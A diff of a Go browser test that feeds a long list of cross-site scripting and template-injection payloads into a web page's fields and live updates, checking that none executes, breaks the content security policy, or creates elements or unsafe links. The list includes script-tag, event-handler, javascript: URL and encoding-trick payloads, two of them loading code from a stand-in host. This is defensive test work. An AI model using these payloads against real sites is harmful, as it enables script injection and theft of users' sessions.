@@ -13,8 +13,8 @@ import (
 	"muster/grouping"
 )
 
-// hostile are texts that have broken pages: each calls pwned() if it is ever
-// run as script, or breaks out of where it is written.
+// hostile has texts of known attacks on pages. Each calls pwned() if the browser runs it as
+// a script, or closes the element in which it is written.
 var hostile = []string{
 	`<script>pwned()</script>`, `<ScRiPt>pwned()</sCrIpT>`, `</script><script>pwned()</script>`, `<script src=//evil.example/x.js></script>`,
 	`<img src=x onerror=pwned()>`, `<img src=x onerror="pwned()">`, `<img/src=x/onerror=pwned()>`, `"><img src=x onerror=pwned()>`,
@@ -23,22 +23,29 @@ var hostile = []string{
 	`<iframe src="javascript:pwned()"></iframe>`, `<iframe srcdoc="<script>parent.pwned()</script>"></iframe>`,
 	`<body onload=pwned()>`, `<input autofocus onfocus=pwned()>`, `<details open ontoggle=pwned()>`, `<video><source onerror=pwned()></video>`,
 	`<audio src=x onerror=pwned()>`, `<marquee onstart=pwned()>`, `<object data="javascript:pwned()">`, `<embed src="javascript:pwned()">`,
-	`<link rel=stylesheet href="javascript:pwned()">`, `<meta http-equiv=refresh content="0;url=javascript:pwned()">`, `<base href="javascript:pwned()//">`,
-	`<form action="javascript:pwned()"><button>x</button></form>`, `<a href="javascript:pwned()">x</a>`, `<style>@import '//evil.example/x.css';</style>`,
-	`<style>*{background:url("javascript:pwned()")}</style>`, `<template><script>pwned()</script></template>`, `<noscript><p title="</noscript><img src=x onerror=pwned()>">`,
+	`<link rel=stylesheet href="javascript:pwned()">`, `<meta http-equiv=refresh content="0;url=javascript:pwned()">`,
+	`<base href="javascript:pwned()//">`,
+	`<form action="javascript:pwned()"><button>x</button></form>`, `<a href="javascript:pwned()">x</a>`,
+	`<style>@import '//evil.example/x.css';</style>`,
+	`<style>*{background:url("javascript:pwned()")}</style>`, `<template><script>pwned()</script></template>`,
+	`<noscript><p title="</noscript><img src=x onerror=pwned()>">`,
 	`<!--<img src="--><img src=x onerror=pwned()//">`, `]]><script>pwned()</script>`, `<![CDATA[<script>pwned()</script>]]>`,
-	`javascript:pwned()`, `JaVaScRiPt:pwned()`, "java\tscript:pwned()", "java\nscript:pwned()", ` javascript:pwned()`, "\x01javascript:pwned()",
+	`javascript:pwned()`,
+	`JaVaScRiPt:pwned()`, "java\tscript:pwned()", "java\nscript:pwned()", ` javascript:pwned()`, "\x01javascript:pwned()",
 	`data:text/html,<script>parent.pwned()</script>`, `vbscript:pwned()`, `//evil.example/x`, `/\evil.example`, `https:evil.example`,
-	`" onmouseover="pwned()`, `' onmouseover='pwned()`, "` onmouseover=`pwned()", `" style="background:url(javascript:pwned())`, `x" autofocus onfocus="pwned()`,
+	`" onmouseover="pwned()`, `' onmouseover='pwned()`, "` onmouseover=`pwned()", `" style="background:url(javascript:pwned())`,
+	`x" autofocus onfocus="pwned()`,
 	`{{constructor.constructor('pwned()')()}}`, `${pwned()}`, `#{pwned()}`, `<%= pwned() %>`, `{{ . }}`, `{{template "x"}}`,
-	`\"-pwned()-\"`, `';pwned();//`, `</title><script>pwned()</script>`, `</textarea><script>pwned()</script>`, `</style><script>pwned()</script>`,
-	"\u2028pwned()\u2029", "\u202e)(denwp", "a\x00b<script>pwned()</script>", `+ADw-script+AD4-pwned()+ADw-/script+AD4-`, `&lt;script&gt;pwned()&lt;/script&gt;`,
+	`\"-pwned()-\"`, `';pwned();//`, `</title><script>pwned()</script>`, `</textarea><script>pwned()</script>`,
+	`</style><script>pwned()</script>`,
+	"\u2028pwned()\u2029", "\u202e)(denwp", "a\x00b<script>pwned()</script>", `+ADw-script+AD4-pwned()+ADw-/script+AD4-`,
+	`&lt;script&gt;pwned()&lt;/script&gt;`,
 	`&#60;script&#62;pwned()`, `%3Cscript%3Epwned()%3C/script%3E`, "line\nid: 1\nevent: gone\ndata: {}\n\n", strings.Repeat("<b>", 500),
 }
 
-// TestHostileTexts sends every hostile text through every field that is shown:
-// once before a page is opened and once while it is open. None runs, none
-// violates the policy, none becomes an element or a link of another scheme.
+// TestHostileTexts sends every hostile text in every visible field, before a page is opened
+// and while it is open. No text runs as a script or violates the content security policy.
+// No text becomes an element, or a link with another scheme.
 func TestHostileTexts(t *testing.T) {
 	require.GreaterOrEqual(t, len(hostile), 60)
 	m := start(t)
@@ -69,7 +76,8 @@ func TestHostileTexts(t *testing.T) {
 				/^(href|src|action|formaction|data)$/.test(a.name) && !/^(https?:\/\/|\/(?![\/\\])|#|data:image\/svg)/.test(a.value))
 			.map(a => n.nodeName + ' ' + a.name + '=' + a.value))`)
 		require.Empty(t, bad, where)
-		require.Empty(t, eval[[]string](b, `[...document.querySelectorAll('script:not([src^="/static/"]),iframe,object,embed,base,form:not([role=search]):not([method])')].map(n => n.outerHTML)`), where)
+		const unwanted = `script:not([src^="/static/"]),iframe,object,embed,base,form:not([role=search]):not([method])`
+		require.Empty(t, eval[[]string](b, `[...document.querySelectorAll(`+quote(unwanted)+`)].map(n => n.outerHTML)`), where)
 		b.clean()
 	}
 	guard := func(url string) {
@@ -87,14 +95,16 @@ func TestHostileTexts(t *testing.T) {
 		guard(url)
 		check(url)
 	}
-	// The filter shows what was typed.
+	// The filter field shows the text that the user typed.
 	for _, text := range hostile {
-		guard(m.url + "/?filter=" + strings.NewReplacer("%", "%25", "&", "%26", "#", "%23", "+", "%2B", " ", "%20", "\n", "%0A", "\t", "%09", "\x00", "%00", "\x01", "%01").Replace(text))
+		escape := strings.NewReplacer("%", "%25", "&", "%26", "#", "%23", "+", "%2B", " ", "%20",
+			"\n", "%0A", "\t", "%09", "\x00", "%00", "\x01", "%01")
+		guard(m.url + "/?filter=" + escape.Replace(text))
 		check("filter " + text)
 	}
-	// And arriving live.
+	// The texts also arrive as live updates.
 	guard(m.url + "/?state=all")
-	b.until(`document.querySelector('#word').textContent === 'Live'`)
+	b.until(isLive)
 	before := eval[string](b, `document.querySelector('#rows').innerText`)
 	send(1)
 	b.until(`document.querySelector('#rows').innerText !== ` + quote(before))
